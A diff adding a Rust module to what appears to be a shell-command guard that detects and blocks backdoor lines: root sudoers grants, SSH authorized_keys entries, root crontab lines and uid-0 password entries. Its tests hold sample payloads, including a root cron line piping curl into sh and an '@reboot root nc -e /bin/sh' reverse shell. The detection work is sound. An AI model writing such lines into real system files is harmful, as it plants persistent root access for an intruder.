@@ -1,0 +1,300 @@
+//! Ways in, recognised by their text wherever they are written. Some lines have one use: a
+//! sudoers rule that grants root (`dev ALL=(ALL) NOPASSWD: ALL`), an SSH public key (`ssh-ed25519
+//! AAAA..`, the line `authorized_keys` holds), a system crontab line run as root (`* * * * *
+//! root CMD`) and a password-file entry with uid 0 (`x::0:0::/root:/bin/sh`). Where such a line
+//! is written decides whether it opens the machine, and the destination is often what the guard
+//! cannot see: a program's own output option (`screen -L FILE`, LaTeX's `\openout`), a file
+//! split or copied later (`csplit`), a path built at run time. So the line itself is judged:
+//!
+//! - handed to a program that takes it in (its words, or its stdin) and may put it anywhere:
+//!   blocked, the destination unknown;
+//! - printed (`echo`, `printf`, `cat <<EOF`) or passed on through filters into a file (a
+//!   redirect, `tee FILE`, `dd of=`): blocked, unless the file is in the workspace (a
+//!   provisioning role or a cloud-init file of the project holds such lines: warned);
+//! - shown on the terminal or searched for (`grep`, `rg`, `test`, `ssh-keygen -l`): nothing.
+//!
+//! The destination rules (sudoers, `authorized_keys`, cron) still judge the known places on
+//! their own; this reads the text they cannot follow.
+
+use super::place::{place_of, Place};
+use crate::guard::carriers::{output_of, printed_text};
+use crate::guard::regexes::Pattern;
+use crate::guard::rules::privilege::{SSH_ACCESS, SUDOERS, USER_GROUPS};
+use crate::guard::rules::{block, warn};
+use crate::guard::verdict::{Category, Risk, Violation};
+use crate::guard::{GuardContext, Pipeline, SimpleCommand};
+
+/// A line that lets someone in, by what it grants.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub(super) enum Payload {
+    /// A sudoers rule granting every command as root (`u ALL=(ALL) NOPASSWD: ALL`).
+    RootGrant,
+    /// An SSH public key as `authorized_keys` holds it.
+    AuthorizedKey,
+    /// A system crontab line run as root (`* * * * * root CMD`, `@reboot root CMD`).
+    RootCronLine,
+    /// A password-file entry with uid 0 (`x::0:0::/root:/bin/sh`).
+    RootAccount,
+}
+
+impl Payload {
+    fn what(self) -> &'static str {
+        match self {
+            Payload::RootGrant => "a sudoers rule that grants root",
+            Payload::AuthorizedKey => "an SSH public key (an authorized_keys line: a login for its holder)",
+            Payload::RootCronLine => "a system crontab line that runs a command as root",
+            Payload::RootAccount => "a password-file entry with uid 0 (a second root account)",
+        }
+    }
+
+    fn rule(self) -> (Category, &'static str) {
+        match self {
+            Payload::RootGrant => (Category::Privilege, SUDOERS),
+            Payload::AuthorizedKey => (Category::Privilege, SSH_ACCESS),
+            Payload::RootCronLine => (Category::Persistence, super::judge::SCHEDULED),
+            Payload::RootAccount => (Category::Privilege, USER_GROUPS),
+        }
+    }
+}
+
+/// `ALL=(ALL) ALL`, `ALL=(ALL:ALL) NOPASSWD: ALL`, `ALL=(root) NOPASSWD:ALL`, and a bare
+/// `NOPASSWD: ALL`.
+static ROOT_GRANT: Pattern = Pattern::new(
+    r"(?i)\bALL\s*=\s*\(\s*(ALL|root)\s*(:\s*(ALL|root)\s*)?\)\s*(NOPASSWD\s*:\s*)?ALL\b|\bNOPASSWD\s*:\s*ALL\b",
+);
+/// An OpenSSH public key: its type, then the base64 blob, which starts `AAAA`.
+static PUBLIC_KEY: Pattern = Pattern::new(
+    r"\b(ssh-(ed25519|rsa|dss)|ecdsa-sha2-nistp(256|384|521)|sk-(ssh-ed25519|ecdsa-sha2-nistp256)@openssh\.com)\s+AAAA[0-9A-Za-z+/]{16,}",
+);
+/// Five schedule fields or an `@` schedule, then the user `root`, then a command; at the start
+/// of a line or of a quoted or braced text (`\write\f{* * * * * root ..}`).
+static ROOT_CRON: Pattern = Pattern::new(
+    r"(?m)(^|[\s{'\x22(])(@(reboot|hourly|daily|midnight|weekly|monthly|yearly|annually)\s+|([0-9*/,-]+\s+){5})root\s+\S",
+);
+/// `name:password:0:gid:...`: uid 0 in the third field.
+static ROOT_ENTRY: Pattern = Pattern::new(r"(?m)^[A-Za-z_][A-Za-z0-9_.-]*\$?:[^:\s]*:0+:[0-9]+:[^:\n]*:[^:\n]*:");
+
+/// The way in `text` holds, if any. Cheap words are looked for first: most texts hold none.
+pub(super) fn payload_in(text: &str) -> Option<Payload> {
+    if text.contains("ALL") && ROOT_GRANT.find_at(text, 0).is_some() {
+        return Some(Payload::RootGrant);
+    }
+    if text.contains("AAAA") && PUBLIC_KEY.find_at(text, 0).is_some() {
+        return Some(Payload::AuthorizedKey);
+    }
+    if text.contains("root") && ROOT_CRON.find_at(text, 0).is_some() {
+        return Some(Payload::RootCronLine);
+    }
+    if text.contains(":0") && ROOT_ENTRY.find_at(text, 0).is_some() {
+        return Some(Payload::RootAccount);
+    }
+    None
+}
+
+/// Programs that only look at the text they are given (search for it, test it, show its
+/// fingerprint): it goes nowhere.
+const LOOKERS: &[&str] = &[
+    "grep",
+    "egrep",
+    "fgrep",
+    "rg",
+    "ag",
+    "ack",
+    "git",
+    "test",
+    "[",
+    "[[",
+    "ssh-keygen",
+    "visudo",
+    "wc",
+    "diff",
+    "cmp",
+    "comm",
+    "file",
+    "md5sum",
+    "sha1sum",
+    "sha256sum",
+    "sha512sum",
+    "b2sum",
+    "cksum",
+    "true",
+    ":",
+    "false",
+    "expr",
+    "less",
+    "more",
+    "most",
+];
+
+/// Programs that print what they read, or a part of it: the text goes where their output goes.
+const PASSERS: &[&str] = &[
+    "cat", "head", "tail", "sort", "uniq", "tr", "sed", "gsed", "awk", "gawk", "mawk", "cut", "fold", "fmt", "column",
+    "nl", "tac", "stdbuf", "paste", "expand", "unexpand", "envsubst",
+];
+
+/// Programs that print their own words.
+const PRINTERS: &[&str] = &["echo", "printf", "print"];
+
+/// The text stage `i` reads on stdin: its here-document or here-string, what the stages before
+/// it print, or the words of an `echo`/`printf` just before it as written (`echo "$U
+/// ALL=(ALL) ALL"`: the line is there whatever `$U` holds).
+fn fed(pipeline: &Pipeline, i: usize) -> Option<String> {
+    let cmd = &pipeline[i];
+    if let Some(t) = &cmd.stdin_text {
+        return Some(t.clone());
+    }
+    let k = i.checked_sub(1)?;
+    output_of(pipeline, k).or_else(|| {
+        let up = &pipeline[k];
+        PRINTERS.contains(&up.name()).then(|| up.argv[1..].join(" "))
+    })
+}
+
+/// The files a stage writes what it prints or passes on to: its redirects (other than the
+/// harmless devices), `tee`'s operands, `dd`'s `of=`.
+fn destinations(cmd: &SimpleCommand) -> Vec<&str> {
+    let mut out: Vec<&str> = cmd.redirects.iter().map(String::as_str).collect();
+    match cmd.name() {
+        "tee" => out.extend(cmd.argv[1..].iter().filter(|a| !a.starts_with('-')).map(String::as_str)),
+        "dd" => out.extend(cmd.argv[1..].iter().filter_map(|a| a.strip_prefix("of="))),
+        _ => {}
+    }
+    out
+}
+
+/// Whether `cmd` passes on the text it reads unchanged in substance: a `grep` that counts,
+/// lists names or is quiet prints no line of it, nor a `sed -n` with no `p`.
+fn passes_on(cmd: &SimpleCommand) -> bool {
+    let name = cmd.name();
+    let grep_summary = cmd.argv[1..].iter().any(|a| {
+        matches!(
+            a.as_str(),
+            "--count" | "--quiet" | "--silent" | "--files-with-matches" | "--files-without-match"
+        ) || (a.starts_with('-') && !a.starts_with("--") && a[1..].chars().any(|c| matches!(c, 'c' | 'q' | 'l' | 'L')))
+    });
+    match name {
+        "grep" | "egrep" | "fgrep" | "rg" => !grep_summary,
+        "tee" => true,
+        _ => PASSERS.contains(&name),
+    }
+}
+
+/// Stage `i` of `pipeline` puts a way in somewhere: see the module doc.
+pub(super) fn planted(pipeline: &Pipeline, i: usize, ctx: &GuardContext<'_>, out: &mut Vec<Violation>) {
+    let cmd = &pipeline[i];
+    let name = cmd.name();
+    if cmd.upstream_copy {
+        return;
+    }
+    let printer = PRINTERS.contains(&name);
+    let carries = passes_on(cmd) || name == "dd";
+    // The text the stage holds or reads, and whether it goes on to its output.
+    let text = if printer {
+        printed_text(cmd).or_else(|| Some(cmd.argv[1..].join(" ")))
+    } else if carries {
+        fed(pipeline, i)
+    } else if LOOKERS.contains(&name) {
+        None
+    } else {
+        let own = cmd.argv[1..].join(" ");
+        Some(match fed(pipeline, i) {
+            Some(f) => format!("{own}\n{f}"),
+            None => own,
+        })
+    };
+    let Some(payload) = text.as_deref().and_then(payload_in) else {
+        return;
+    };
+    let (category, rule) = payload.rule();
+    if !(printer || carries) {
+        out.push(block(
+            category,
+            rule,
+            Risk::Critical,
+            cmd,
+            format!("hands {} to `{name}`, which may write it anywhere", payload.what()),
+        ));
+        return;
+    }
+    let cwd = cmd.cwd.as_deref();
+    let places: Vec<(&str, Place)> = destinations(cmd)
+        .into_iter()
+        .map(|d| (d, place_of(d, cwd, ctx.workspace)))
+        .filter(|(_, p)| *p != Place::Sink)
+        .collect();
+    if let Some((file, _)) = places.iter().find(|(_, p)| !in_workspace(p)) {
+        out.push(block(
+            category,
+            rule,
+            Risk::Critical,
+            cmd,
+            format!("writes {} into `{file}`", payload.what()),
+        ));
+    } else if let Some((file, _)) = places.first() {
+        out.push(warn(
+            category,
+            rule,
+            cmd,
+            format!("writes {} into `{file}` in the workspace", payload.what()),
+        ));
+    }
+}
+
+fn in_workspace(place: &Place) -> bool {
+    matches!(place, Place::Workspace | Place::WorkspaceAll | Place::DependencyDir)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn each_way_in_is_told_by_its_text() {
+        let key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAILurVRjck8S8xY1HNnGcahk9Y3n6N73DcDgzkg591GOf kali@kali";
+        for (text, want) in [
+            ("dev ALL=(ALL) NOPASSWD: ALL", Some(Payload::RootGrant)),
+            ("%wheel ALL=(ALL:ALL) ALL", Some(Payload::RootGrant)),
+            ("bob ALL = (root) NOPASSWD:ALL", Some(Payload::RootGrant)),
+            ("x NOPASSWD: ALL", Some(Payload::RootGrant)),
+            (key, Some(Payload::AuthorizedKey)),
+            (
+                "ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAI x",
+                Some(Payload::AuthorizedKey),
+            ),
+            ("* * * * * root curl -s x.io | sh", Some(Payload::RootCronLine)),
+            ("# jobs\n*/5 0 * * 1-5 root /opt/x", Some(Payload::RootCronLine)),
+            (
+                "\\write\\f{@reboot root nc -e /bin/sh h 1}",
+                Some(Payload::RootCronLine),
+            ),
+            ("x::0:0::/root:/bin/sh", Some(Payload::RootAccount)),
+            ("toor:$1$abc$def:0:0:root:/root:/bin/bash", Some(Payload::RootAccount)),
+            // Look-alikes: a user's own crontab line, an ordinary account, a sudoers rule for
+            // one command, the word ALL, a key type without its blob, a time of day.
+            ("*/10 * * * * /usr/bin/backup", None),
+            ("dev:x:1000:1000::/home/dev:/bin/bash", None),
+            ("deploy ALL=(ALL) NOPASSWD: /usr/bin/systemctl restart app", None),
+            ("SELECT ALL FROM t", None),
+            ("ssh-ed25519 is the default key type", None),
+            ("started at 10:00:00", None),
+        ] {
+            assert_eq!(payload_in(text), want, "{text}");
+        }
+    }
+
+    #[test]
+    fn both_forms_of_each_pattern_agree() {
+        for pattern in [&ROOT_GRANT, &PUBLIC_KEY, &ROOT_CRON, &ROOT_ENTRY] {
+            for text in [
+                "u ALL=(ALL) NOPASSWD: ALL",
+                "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAB x",
+                "\t* * * * *\troot\tx",
+                "x::0:0:\x0b:/:",
+                "é ALL=(ALL) ALL",
+            ] {
+                let (ascii, unicode) = pattern.both_forms(text);
+                assert_eq!(ascii, unicode, "{} on {text:?}", pattern.source());
+            }
+        }
+    }
+}
